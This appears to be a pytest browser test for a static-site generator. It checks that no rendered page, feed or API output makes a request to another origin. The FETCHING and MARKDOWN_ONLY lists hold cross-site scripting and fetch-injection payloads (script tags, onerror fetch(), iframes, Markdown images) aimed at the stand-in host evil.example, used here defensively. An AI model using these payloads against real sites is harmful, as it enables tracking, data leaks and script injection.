"""No request to another origin, ever (issue 13, class 3), checked in the browser over a site
built from an injection corpus: every text field of every sample record carries a payload that
would make a browser fetch from elsewhere if it were rendered as markup (images, scripts,
frames, styles, prefetch links, refresh, base, Markdown images and link tricks).

Each payload is first tried alone in a plain text field and in a Markdown field: validation
either refuses it (E209, E211, …) or accepts it; every accepted payload goes into the site, in
every field. The browser then visits every page kind, logs every request, and fails on any
request that leaves the origin.
"""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from browser_helpers import AS_OF, DATA, build_site, open_tab, serve
from playwright.sync_api import Browser

from generator.domain.models import ApprovedTechnology, GuidanceEntry
from generator.publish.pipeline import check_registry

pytestmark = pytest.mark.browser

FETCHING = [
    '<img src="https://evil.example/t.png">',
    '<script src="//evil.example/x.js"></script>',
    '"><img src=//evil.example/a>',
    "'><svg><image href=//evil.example/b /></svg>",
    "<link rel=prefetch href=//evil.example/c>",
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "<iframe src=//evil.example/d></iframe>",
    '<base href="//evil.example/">',
    "<style>@import url(//evil.example/e.css)</style>",
    "<div style=\"background:url('//evil.example/f')\">",
    "<object data=//evil.example/i></object>",
    "<video poster=//evil.example/j></video>",
    "<audio src=//evil.example/k autoplay></audio>",
    "<embed src=//evil.example/l>",
    "<img srcset='//evil.example/m 1x'>",
    "<img src=x onerror=\"fetch('//evil.example/z')\">",
    '<details open ontoggle=fetch("//evil.example/y")>',
    "<math><mi xlink:href=//evil.example/w>",
]
MARKDOWN_ONLY = [
    "![x](https://evil.example/m.png)",
    "![x](//evil.example/n.png)",
    "![x][img]\n\n[img]: https://evil.example/v.png\n",
    "[a](//evil.example/o)",
    "[a](/\\evil.example/p)",
    "[a](&#x2F;&#x2F;evil.example/q)",
    "[a][r]\n\n[r]: //evil.example/s\n",
    "<https://evil.example/t>",  # a link: fetched only if clicked
    "<//evil.example/u>",
    "[a](https://evil.example/w)",
    "```\n<img src=//evil.example/code>\n```",
    "`<img src=//evil.example/inline>`",
    "| a |\n|---|\n| <img src=//evil.example/cell> |",
    "> <iframe src=//evil.example/quote>",
]
CORPUS = FETCHING + MARKDOWN_ONLY
SKIP_KEYS = {
    *("id", "category", "risk_grade", "action", "record", "route", "url", "guidance_entry"),
    *("date", "effective", "until", "announcement", "sample", "exclusive_years", "redirects"),
    "event",  # a research event is a fixed vocabulary (completed, terminated, ethics_continued)
    *("file", "sha256"),  # a 公告原件's name and hash: checked byte for byte (E319–E321)
}
DELIST_SUSPEND_GROUNDS = {"delist", "suspend"}  # `ground` is a fixed vocabulary there
MARKDOWN_KEYS = {"filing_requirements", "summary", "body", "operating_spec"}
MARKDOWN_LISTS = {"institution", "personnel", "management", "training_qc"}

GUIDANCE = {"id": "GL-0001", "name": "名", "category": "c", "purpose": "p", "mechanism": "m"}
APPROVED = {
    "id": "BMT-2026-001",
    "name": "名",
    "category": "c",
    "applicant": "a",
    "guidance_entry": "GL-0001",  # required since the contract of 2026-12-01
}


def accepted(payload: str, markdown: bool) -> bool:
    try:
        if markdown:
            ApprovedTechnology.model_validate({**APPROVED, "summary": payload})
        else:
            GuidanceEntry.model_validate({**GUIDANCE, "name": payload})
    except Exception:
        return False
    return True


class Injector:
    """Hands out payloads round-robin: each accepted payload lands in many fields."""

    def __init__(self) -> None:
        self.text = [p for p in FETCHING if accepted(p, markdown=False)]
        self.md = [p for p in CORPUS if accepted(p, markdown=True)]
        self.refused = [p for p in CORPUS if not accepted(p, markdown=True)]
        self.i = 0
        self.fields = 0

    def next(self, markdown: bool) -> str:
        pool = self.md if markdown else self.text
        self.i += 1
        self.fields += 1
        return pool[self.i % len(pool)]

    def inject(self, data: Any, key: str = "", action: str = "") -> Any:
        if isinstance(data, dict):
            act = data.get("action", action)
            return {k: self._field(k, v, act) for k, v in data.items()}
        return data

    def _field(self, key: str, value: Any, action: str) -> Any:
        if key in SKIP_KEYS or (key == "ground" and action in DELIST_SUSPEND_GROUNDS):
            return value
        if isinstance(value, str):
            md = key in MARKDOWN_KEYS
            return value + ("\n\n" if md else " ") + self.next(md)
        if isinstance(value, list):
            md = key in MARKDOWN_LISTS
            return [
                (v + " " + self.next(md)) if isinstance(v, str) else self.inject(v, key, action)
                for v in value
            ]
        if isinstance(value, dict):
            return self.inject(value, key, action)
        return value


@pytest.fixture(scope="module")
def injected(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Injector, Path]]:
    root = tmp_path_factory.mktemp("injection")
    data = root / "data"
    shutil.copytree(DATA, data)
    inj = Injector()
    for path in sorted(data.rglob("*.yaml")):
        if path.name == "risk-grades.yaml":
            continue
        doc = yaml.safe_load(path.read_text(encoding="utf-8"))
        doc = inj.inject(doc)
        path.write_text(yaml.safe_dump(doc, allow_unicode=True, sort_keys=False), "utf-8")
    problems = check_registry(data, AS_OF).problems
    assert problems == [], [p.text() for p in problems[:5]]
    site = build_site(data, root / "site")
    with serve(site) as url:
        yield url, inj, site


def _pages(site: Path) -> list[str]:
    pages = []
    for index in sorted(site.rglob("index.html")):
        rel = index.parent.relative_to(site).as_posix()
        if rel.startswith(("pagefind", "assets", "api/", "search")):
            continue
        pages.append("/" if rel == "." else f"/{rel}/")
    return pages


def test_no_request_leaves_the_origin_on_any_page(
    browser: Browser, injected: tuple[str, Injector, Path]
) -> None:
    origin, inj, site = injected
    pages = _pages(site)
    assert len(pages) > 40, pages
    assert inj.refused, "validation refused none of the corpus: the test would prove nothing"
    with open_tab(browser, origin) as tab:
        for path in pages:
            tab.goto(path)
            tab.page.wait_for_load_state("networkidle")
            assert tab.page.evaluate("typeof window.__xss") == "undefined"
        tab.goto("/")
        urls = tab.search("evil")  # the payloads are text, and searchable as such
        assert urls
        tab.page.wait_for_load_state("networkidle")
        foreign = tab.foreign_requests()
        print(
            f"injection corpus: {len(CORPUS)} payloads, {len(inj.md)} accepted in Markdown, "
            f"{len(inj.text)} in text, {len(inj.refused)} refused by validation; "
            f"{inj.fields} fields injected; {len(pages)} pages, {len(tab.requests)} requests"
        )
        assert foreign == [], f"requests to other origins: {sorted(set(foreign))[:10]}"
        assert tab.page_errors == [], tab.page_errors


def test_feeds_and_api_carry_no_fetchable_markup(injected: tuple[str, Injector, Path]) -> None:
    """Feed readers render entry HTML: no <img>, no protocol-relative link in any feed."""
    from lxml import etree, html

    _origin, _inj, site = injected
    feeds = sorted((site / "feeds").rglob("*.xml"))
    assert feeds
    checked = 0
    for feed in feeds:
        root = etree.fromstring(feed.read_bytes())
        for content in root.iter("{http://www.w3.org/2005/Atom}content"):
            if not (content.text or "").strip():
                continue
            tree = html.fragment_fromstring(content.text, create_parent="div")
            for el in tree.iter():
                assert el.tag not in ("img", "iframe", "script", "style", "object", "embed"), feed
                assert "src" not in el.attrib and "style" not in el.attrib, (feed, el.attrib)
                href = el.get("href", "")
                assert not href.startswith(("//", "/\\")), (feed, href)
            checked += 1
    assert checked > 20, checked


FETCH_ATTRS = ("src", "srcset", "poster", "data", "background", "action", "formaction")


def _offsite(url: str) -> bool:
    u = url.strip().lower()
    return u.startswith(("//", "/\\", "\\\\")) or (
        u.startswith(("http:", "https:")) and "registry.example.org" not in u
    )


def test_pages_have_no_markup_from_data(injected: tuple[str, Injector, Path]) -> None:
    """Parsed as a browser would: no element that fetches (src, srcset, <link href>, <base>,
    refresh, inline style url()) points at another origin, on any page."""
    from lxml import html

    _origin, _inj, site = injected
    pages = sorted(site.rglob("*.html"))
    for page in pages:
        tree = html.document_fromstring(page.read_bytes())
        for el in tree.iter():
            if not isinstance(el.tag, str):
                continue
            for attr in FETCH_ATTRS:
                assert not _offsite(el.get(attr, "")), (page, el.tag, attr, el.get(attr))
            if el.tag in ("link", "base"):
                assert not _offsite(el.get("href", "")), (page, el.tag, el.get("href"))
            assert "url(" not in el.get("style", ""), (page, el.tag)
            if el.tag == "meta" and (el.get("http-equiv") or "").lower() == "refresh":
                assert "evil" not in el.get("content", ""), page
            assert el.tag not in ("iframe", "object", "embed"), (page, el.tag)
    assert len(pages) > 40
